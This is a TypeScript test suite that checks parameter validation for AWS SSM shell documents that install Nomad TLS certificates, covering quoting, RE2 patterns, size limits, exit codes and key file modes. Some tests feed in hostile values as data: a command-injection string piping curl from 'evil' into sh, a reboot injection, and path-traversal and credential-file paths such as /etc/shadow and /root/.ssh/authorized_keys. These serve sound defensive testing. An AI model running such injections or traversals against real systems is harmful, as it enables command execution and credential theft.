import { RE2JS } from 're2js';
import { describe, expect, it } from 'vitest';
import {
  commandDocument,
  DOCUMENT_SIZE_LIMIT_BYTES,
  DOCUMENTS,
  documentSizeBytes,
  installExecutionTimeoutSeconds,
  scriptText,
  TRUSTED_ROOTS_RESERVE_BYTES,
  validateDocumentParameters,
} from '../../shared/documents';
import { ValidationError } from '../../shared/errors';
import { PATTERNS } from '../../shared/patterns';
import { DEFAULT_FILES } from '../helpers/documents';

const PROD_ROOT = 'a1'.repeat(32);
const STAGING_ROOTS = ['b2'.repeat(32), 'c3'.repeat(32)];
const CLUSTERS = [
  { name: 'prod', certificates: { trustedRootFingerprints: [PROD_ROOT] } },
  { name: 'staging', certificates: { trustedRootFingerprints: STAGING_ROOTS } },
];

const prepare = {
  attemptId: 'abc123-0f0f0f0f',
  keyType: 'ec-p256',
  agentKeyPath: '/opt/nomad/agent-certs/agent.key',
  agentCertPath: '/opt/nomad/agent-certs/agent.crt',
  cliKeyPath: '/opt/nomad/cli-certs/cli.key',
  cliCertPath: '/opt/nomad/cli-certs/cli.crt',
};

describe('SSM documents', () => {
  it('give every parameter an allowedPattern and use every parameter in the script', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      const document = commandDocument(kind, CLUSTERS);
      const script = scriptText(kind);

      expect(document.schemaVersion).toBe('2.2');
      for (const [name, parameter] of Object.entries(document.parameters)) {
        expect(parameter.allowedPattern, `${kind}.${name}`).toMatch(/^\^.*\$$/);
        const placeholder = new RegExp(`\\{\\{ ${name} \\}\\}`);
        expect(placeholder.test(script) || name === 'executionTimeout', `${kind} uses ${name}`).toBe(true);
      }
      const placeholders = [...script.matchAll(/\{\{ (\w+) \}\}/g)].map((match) => match[1]);
      for (const name of placeholders)
        expect(document.parameters, `${kind} declares ${name}`).toHaveProperty(name!);
    }
  });

  it('quote every parameter in single quotes, where a pattern-checked value cannot break out', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      for (const line of scriptText(kind).split('\n')) {
        for (const match of line.matchAll(/(.)\{\{ \w+ \}\}(.)/g))
          expect(`${match[1]}${match[2]}`, line).toBe("''");
      }
      for (const parameter of Object.values(commandDocument(kind, CLUSTERS).parameters)) {
        expect(new RegExp(parameter.allowedPattern).test("a'b"), parameter.description).toBe(false);
      }
    }
  });

  it("compile every pattern under Go's RE2, as the SSM agent does before it runs a document", () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      for (const [name, parameter] of Object.entries(commandDocument(kind, CLUSTERS).parameters)) {
        expect(() => RE2JS.compile(parameter.allowedPattern), `${kind}.${name}`).not.toThrow();
      }
    }
    expect(() => RE2JS.compile('^[A-Za-z0-9+/=]{1,60000}$')).toThrow(/invalid repeat count/);
  });

  it('mean the same under RE2 and JavaScript for values at and past their edges', () => {
    const samples = [
      '',
      'a',
      "a'b",
      'server',
      'i-0123456789abcdef0',
      '/opt/nomad/x',
      '0640',
      'true',
      'QUJD+/=',
      'https://127.0.0.1:4646',
      'x\ny',
    ];
    for (const source of Object.values(PATTERNS)) {
      const re2 = RE2JS.compile(source);
      for (const sample of samples)
        expect(re2.matcher(sample).find(), `${source} on ${sample}`).toBe(new RegExp(source).test(sample));
    }
  });

  it('refuse a payload longer than the pattern allows, although RE2 patterns carry no such bound', () => {
    const attempt = () =>
      validateDocumentParameters('install', installParameters({ certificates: 'A'.repeat(60_001) }));

    expect(attempt).toThrow(/certificates: must match .* at most 60000 characters/);
  });

  it('count the whole document, chain and CA bundle included, against the 64 KB budget', () => {
    const fits = validateDocumentParameters(
      'install',
      installParameters({ certificates: 'A'.repeat(20_000) }),
    );
    const tooBig = () =>
      validateDocumentParameters(
        'install',
        installParameters({
          certificates: 'A'.repeat(20_000),
          chain: 'B'.repeat(20_000),
          caBundle: 'C'.repeat(20_000),
        }),
      );

    expect(documentSizeBytes('install', fits)).toBeGreaterThan(
      Buffer.byteLength(JSON.stringify(commandDocument('install', CLUSTERS))) + 20_000,
    );
    expect(tooBig).toThrow(/parameters: document plus parameters come to \d+ bytes; at most \d+ allowed/);
    expect(DOCUMENT_SIZE_LIMIT_BYTES).toBe(65_536);
  });

  it('give the install enough time for the proof, a rollback and its proof before the agent kills it', () => {
    const timeout = installExecutionTimeoutSeconds(120, 3);

    expect(timeout).toBeGreaterThanOrEqual(2 * (120 + 3));
    expect(timeout).toBeLessThanOrEqual(172_800);
  });

  it('exit only 0 or 1: the agent reboots the instance on 194 and skips steps on 168/169', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      const code = scriptText(kind)
        .split('\n')
        .filter((line) => !line.trim().startsWith('#'))
        .join('\n');
      const codes = [...code.matchAll(/\bexit\s+(\S+)/g)].map((match) => match[1]);
      expect(new Set(codes), kind).toEqual(new Set(['1', '0'].filter((code) => codes.includes(code))));
    }
  });

  it("start with #!/bin/bash on the first line, which the agent's sh -c <file> honours", () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[])
      expect(commandDocument(kind, CLUSTERS).mainSteps[0].inputs.runCommand[0], kind).toBe('#!/bin/bash');
  });

  it('accept valid parameters and fill defaults', () => {
    const parameters = validateDocumentParameters('prepare', prepare);

    expect(parameters.keyType).toEqual(['ec-p256']);
    expect(parameters.executionTimeout).toEqual(['900']);
  });

  it('refuse a value that could inject shell, naming the parameter but not echoing the value', () => {
    const attempt = () =>
      validateDocumentParameters('prepare', { ...prepare, agentKeyPath: "/opt/x'; curl evil | sh; '" });

    expect(attempt).toThrow(ValidationError);
    expect(attempt).toThrow(/agentKeyPath: must match/);
    expect(attempt).not.toThrow(/curl evil/);
  });

  it('let SSM itself refuse paths with "." or ".." segments or outside the roots Nomad keeps its TLS files in', () => {
    const refused = [
      '/opt/nomad/agent-certs/../../../etc/shadow',
      '/opt/nomad/./agent.key',
      '/opt/nomad/agent-certs/..',
      '/etc/passwd',
      '/root/.ssh/authorized_keys',
      '/usr/bin/nomad',
      '/opt/nomadx/agent.key',
      '/opt/nomad',
      '/opt/nomad//agent.key',
      '/opt/nomad/agent-certs/',
    ];
    const accepted = [
      '/opt/nomad/agent-certs/agent.key',
      '/etc/nomad.d/tls/agent.key',
      '/var/lib/nomad/tls/..agent.key',
      '/etc/pki/nomad/.hidden',
    ];
    const document = commandDocument('install', CLUSTERS);
    const { allowedPattern } = document.parameters.agentKeyPath!;
    const [ssm, agent] = [new RegExp(`^(?:${allowedPattern})$`), RE2JS.compile(allowedPattern)];

    for (const path of refused) {
      expect(ssm.test(path), `SSM on ${path}`).toBe(false);
      expect(agent.matcher(path).find(), `agent on ${path}`).toBe(false);
      expect(() => validateDocumentParameters('install', installParameters({ agentKeyPath: path }))).toThrow(
        /agentKeyPath: must match/,
      );
    }
    for (const path of accepted) {
      expect(ssm.test(path), `SSM on ${path}`).toBe(true);
      expect(agent.matcher(path).find(), `agent on ${path}`).toBe(true);
    }
  });

  it('let SSM itself refuse a key mode with any bit for others, and only for keys', () => {
    const document = commandDocument('install', CLUSTERS);
    const keyMode = new RegExp(document.parameters.agentKeyMode!.allowedPattern);
    const certMode = new RegExp(document.parameters.agentCertMode!.allowedPattern);

    for (const mode of ['0644', '0604', '0601', '0777', '0602'])
      expect([keyMode.test(mode), RE2JS.compile(keyMode.source).matcher(mode).find()], mode).toEqual([
        false,
        false,
      ]);
    for (const mode of ['0600', '0640', '0400', '0440']) expect(keyMode.test(mode), mode).toBe(true);
    expect(document.parameters.cliKeyMode!.allowedPattern).toBe(keyMode.source);
    expect(certMode.test('0644')).toBe(true);
    expect(() => validateDocumentParameters('install', installParameters({ cliKeyMode: '0644' }))).toThrow(
      /cliKeyMode: must match/,
    );
  });

  it("write each cluster's accepted roots into the install script, and take the cluster as a checked parameter", () => {
    const script = commandDocument('install', CLUSTERS).mainSteps[0].inputs.runCommand.join('\n');

    expect(script).toContain(
      `declare -A TRUSTED_ROOTS=(['prod']='${PROD_ROOT}' ['staging']='${STAGING_ROOTS.join(' ')}')`,
    );
    expect(commandDocument('prepare', CLUSTERS)).toEqual(commandDocument('prepare', []));
    expect(() => validateDocumentParameters('install', installParameters({ cluster: "prod' x" }))).toThrow(
      /cluster: must match/,
    );
  });

  it('refuse to build an install document from trust anchors that are not fingerprints or too many', () => {
    const build = (clusters: { name: string; certificates: { trustedRootFingerprints: string[] } }[]) => () =>
      commandDocument('install', clusters);

    expect(build([])).toThrow(/clusters: at least one cluster/);
    expect(build([{ name: 'prod', certificates: { trustedRootFingerprints: ["a'; reboot; '"] } }])).toThrow(
      /clusters\[0\]\.certificates\.trustedRootFingerprints\[0\]: must match/,
    );
    expect(build([{ name: 'Prod X', certificates: { trustedRootFingerprints: [PROD_ROOT] } }])).toThrow(
      /clusters\[0\]\.name: must match/,
    );
    const many = Array.from({ length: 80 }, (_, index) => ({
      name: `c${index}`,
      certificates: { trustedRootFingerprints: [PROD_ROOT] },
    }));
    expect(build(many)).toThrow(new RegExp(`at most ${TRUSTED_ROOTS_RESERVE_BYTES} allowed`));
  });

  it('count the trusted roots at their reserve, so the budget holds for any stack the table fits', () => {
    const parameters = validateDocumentParameters('install', installParameters({}));
    const deployed = Buffer.byteLength(JSON.stringify(commandDocument('install', CLUSTERS)));

    expect(documentSizeBytes('install', parameters)).toBeGreaterThanOrEqual(
      deployed + Buffer.byteLength(JSON.stringify(parameters)),
    );
  });

  it('refuse unknown and missing parameters', () => {
    const { cliCertPath: _omitted, ...rest } = prepare;
    expect(() => validateDocumentParameters('prepare', { ...rest, extra: 'x' } as never)).toThrow(
      /extra: unknown parameter.*cliCertPath: required/,
    );
  });
});

function installParameters(overrides: Record<string, string>) {
  return {
    attemptId: 'abc123-0f0f0f0f',
    cluster: 'prod',
    role: 'server',
    region: 'global',
    mode: 'reload',
    certificates: 'QUJD',
    chain: 'QUJD',
    caBundle: 'QUJD',
    minimumValiditySeconds: '600',
    healthTimeoutSeconds: '120',
    settleSeconds: '3',
    nomadAddress: 'https://127.0.0.1:4646',
    verifyHttpsClient: 'true',
    ...DEFAULT_FILES,
    ...overrides,
  } as Parameters<typeof validateDocumentParameters<'install'>>[1];
}
